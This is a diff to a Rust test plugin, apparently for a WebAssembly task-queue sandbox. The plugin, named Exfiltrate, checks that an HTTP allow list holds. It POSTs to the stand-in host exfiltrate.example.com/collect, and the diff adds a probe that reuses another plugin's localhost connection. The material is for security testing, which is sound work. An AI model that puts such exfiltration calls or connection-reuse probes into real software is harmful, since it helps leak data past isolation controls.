@@ -1,5 +1,7 @@
 //! Hostile: sends HTTP to a host that is not on its allow list (it may only
-//! reach 127.0.0.1).
+//! reach 127.0.0.1). Given `{"url": "http://127.0.0.1:..."}` it GETs that
+//! allowed URL instead, to see whether its request can ride a connection
+//! another plugin opened.
 
 use wasmq_guest::{Failure, Handler, Task, http};
 
@@ -9,7 +11,11 @@ impl Handler for Exfiltrate {
     type Payload = serde_json::Value;
     type Output = ();
 
-    fn handle(_task: &Task, _payload: serde_json::Value) -> Result<(), Failure> {
+    fn handle(_task: &Task, payload: serde_json::Value) -> Result<(), Failure> {
+        if let Some(url) = payload["url"].as_str() {
+            http::get(url)?;
+            return Ok(());
+        }
         http::post(
             "http://exfiltrate.example.com/collect",
             "text/plain",
